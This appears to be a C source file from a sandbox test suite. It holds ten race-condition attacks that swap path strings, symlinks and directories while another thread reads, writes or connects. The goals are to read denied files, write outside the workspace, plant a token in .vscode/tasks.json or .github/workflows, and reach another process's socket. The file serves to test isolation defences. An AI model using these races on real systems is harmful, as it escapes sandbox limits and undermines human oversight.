/* Races: one thread changes what a name means while another uses it. Each runs for at most 1 s. */
#include "attack.h"
#include <pthread.h>

#define RACE_SECONDS 1.0

static volatile int done;
static char shared_path[PATH_MAX];
static char good[PATH_MAX], bad[PATH_MAX];

/* Changes the string in place. Both have the same length, so any mixture is a plain ENOENT. */
static void *flip_string(void *unused) {
    while (!done) {
        memcpy(shared_path, bad, strlen(bad) + 1);
        memcpy(shared_path, good, strlen(good) + 1);
    }
    return unused;
}

static void *flip_symlink(void *unused) {
    for (int i = 0; !done; i++) {
        unlink("flip.new");
        if (symlink(i & 1 ? good : bad, "flip.new")) continue;
        rename("flip.new", "flip");
    }
    return unused;
}

/* Exchanges a real directory with a symlink to another one. */
static void *flip_directory(void *unused) {
    while (!done) renameat2(AT_FDCWD, "flip", AT_FDCWD, "flip.other", RENAME_EXCHANGE);
    return unused;
}

static pthread_t start(void *(*body)(void *)) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, body, NULL)) fail("pthread_create");
    return thread;
}

/* Opens `path` until something else than the harmless text comes out. */
static void read_until_secret(const char *path) {
    char text[256];
    for (double end = seconds() + RACE_SECONDS; seconds() < end;) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, text, sizeof text - 1);
        close(fd);
        if (n <= 0) continue;
        text[n] = 0;
        if (strncmp(text, "allowed", 7)) {
            puts(text);
            break;
        }
    }
    done = 1;
}

static void write_for_a_while(const char *path) {
    for (double end = seconds() + RACE_SECONDS; seconds() < end;) {
        int fd = open(path, O_WRONLY | O_TRUNC);
        if (fd < 0) continue;
        if (write(fd, token, strlen(token)) < 0) continue;
        close(fd);
    }
    done = 1;
}

static void set_names(const char *good_name, const char *bad_name) {
    snprintf(good, sizeof good, "%s", at(good_name));
    snprintf(bad, sizeof bad, "%s", at(bad_name));
}

/* The two differ in one directory of equal length: work/allow/x and work/denyd/x, the second being denied. */
static void read_string(void) {
    set_names("outside/allow/x", "outside/denyd/x");
    strcpy(shared_path, good);
    pthread_t thread = start(flip_string);
    read_until_secret(shared_path);
    pthread_join(thread, NULL);
}

static void read_symlink(void) {
    set_names("outside/allow/x", "outside/denyd/x");
    if (symlink(good, "flip")) fail("symlink");
    pthread_t thread = start(flip_symlink);
    read_until_secret("flip");
    pthread_join(thread, NULL);
}

static void read_directory(void) {
    set_names("outside/allow", "outside/denyd");
    if (symlink(good, "flip") || symlink(bad, "flip.other")) fail("symlink");
    pthread_t thread = start(flip_directory);
    read_until_secret("flip/x");
    pthread_join(thread, NULL);
}

static void write_string(void) {
    /* Padded with slashes so that both have one length. */
    snprintf(good, sizeof good, "%s///allowed.txt", at("work"));
    snprintf(bad, sizeof bad, "%s/target.txt", at("outside"));
    strcpy(shared_path, good);
    pthread_t thread = start(flip_string);
    write_for_a_while(shared_path);
    pthread_join(thread, NULL);
}

static void write_symlink(void) {
    set_names("work/allowed.txt", "outside/target.txt");
    if (symlink(good, "flip")) fail("symlink");
    pthread_t thread = start(flip_symlink);
    write_for_a_while("flip");
    pthread_join(thread, NULL);
}

static void write_directory(void) {
    if (mkdir("flip", 0755) || symlink(at("outside"), "flip.other")) fail("set-up");
    put_file("flip/target.txt", "allowed");
    pthread_t thread = start(flip_directory);
    write_for_a_while("flip/target.txt");
    pthread_join(thread, NULL);
}

/* Into a protected directory of the workspace: flip is an ordinary directory or a symlink to .vscode. */
static void config_directory(void) {
    if (mkdir("flip", 0755) || symlink(".vscode", "flip.other")) fail("set-up");
    pthread_t thread = start(flip_directory);
    for (double end = seconds() + RACE_SECONDS; seconds() < end;) {
        int fd = open("flip/tasks.json", O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) continue;
        put(fd, token);
        close(fd);
    }
    done = 1;
    pthread_join(thread, NULL);
}

static void *flip_kind(void *unused) {
    while (!done) renameat2(AT_FDCWD, "flip", AT_FDCWD, "flip.other", RENAME_EXCHANGE);
    return unused;
}

/* A file is renamed to .github, which is harmless, while a directory with workflows in it takes its place. */
static void config_rename(void) {
    put_file("flip", "harmless");
    if (mkdir("flip.other", 0755) || mkdir("flip.other/workflow.new", 0755)) fail("set-up");
    put_file("flip.other/workflow.new/ci.yml", token);
    if (rename("flip.other/workflow.new", "flip.other/workflows")) fail("set-up");
    pthread_t thread = start(flip_kind);
    for (double end = seconds() + 2; seconds() < end;) {
        struct stat st;
        if (rename("flip", ".github")) continue;
        if (!stat(".github", &st) && S_ISDIR(st.st_mode)) break;
        rename(".github", "flip");
    }
    done = 1;
    pthread_join(thread, NULL);
}

static struct sockaddr_un peer;

static void *flip_socket(void *unused) {
    while (!done) {
        memcpy(peer.sun_path, bad, strlen(bad) + 1);
        memcpy(peer.sun_path, good, strlen(good) + 1);
    }
    return unused;
}

/* Connects while the address flips between a socket of our own and the victim's. */
static void connect_string(void) {
    struct sockaddr_un own = {.sun_family = AF_UNIX};
    int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
    snprintf(good, sizeof own.sun_path, "%s///mine.sock", at("work"));
    snprintf(bad, sizeof own.sun_path, "%s/victim.sock", at("sock"));
    memcpy(own.sun_path, good, strlen(good) + 1);
    if (bind(listener, (struct sockaddr *)&own, sizeof own) || listen(listener, 64)) fail("bind");
    peer = own;
    pthread_t thread = start(flip_socket);
    for (double end = seconds() + RACE_SECONDS; seconds() < end;) {
        char text[256];
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        struct timeval patience = {0, 20000};
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
        if (!connect(fd, (struct sockaddr *)&peer, sizeof peer)) {
            int own_end = accept(listener, NULL, NULL);
            if (own_end >= 0) close(own_end);
            ssize_t n = own_end >= 0 ? 0 : recv(fd, text, sizeof text - 1, 0);
            if (n > 0) {
                fwrite(text, 1, (size_t)n, stdout);
                close(fd);
                break;
            }
        }
        close(fd);
    }
    done = 1;
    pthread_join(thread, NULL);
}

/* Binds /proc/self/cwd/S from a directory that the victim's socket is moved into and out of under that name. */
static void *bind_spot(void *unused) {
    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "/proc/self/cwd/S"};
    while (!done) {
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);
        bind(fd, (struct sockaddr *)&address, sizeof address);
        close(fd);
        unlink(shared_path);
    }
    return unused;
}

static void *move_socket(void *unused) {
    while (!done) rename(good, bad), rename(bad, good);
    return unused;
}

static int has_reply(const char *path) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    struct timeval patience = {1, 0};
    char text[256];
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
    ssize_t n = connect(fd, (struct sockaddr *)&address, sizeof address) ? 0 : recv(fd, text, sizeof text, 0);
    if (n > 0) fwrite(text, 1, (size_t)n, stdout);
    close(fd);
    return n > 0;
}

static void bind_swap(void) {
    set_names("work/victim.sock", "work/x/S");
    snprintf(shared_path, sizeof shared_path, "%s", at("work/S"));
    if (mkdir("x", 0755) || chdir("x")) fail("x");
    pthread_t binder = start(bind_spot), mover = start(move_socket);
    for (double end = seconds() + 4; seconds() < end;)
        if (has_reply(good) || has_reply(bad)) break;
    done = 1;
    pthread_join(binder, NULL);
    pthread_join(mover, NULL);
}

const struct attack RACES[] = {
    {"race-bind-swap", bind_swap},
    {"race-read-string", read_string},
    {"race-read-symlink", read_symlink},
    {"race-read-directory", read_directory},
    {"race-write-string", write_string},
    {"race-write-symlink", write_symlink},
    {"race-write-directory", write_directory},
    {"race-config-directory", config_directory},
    {"race-config-rename", config_rename},
    {"race-connect-string", connect_string},
    {NULL, NULL},
};
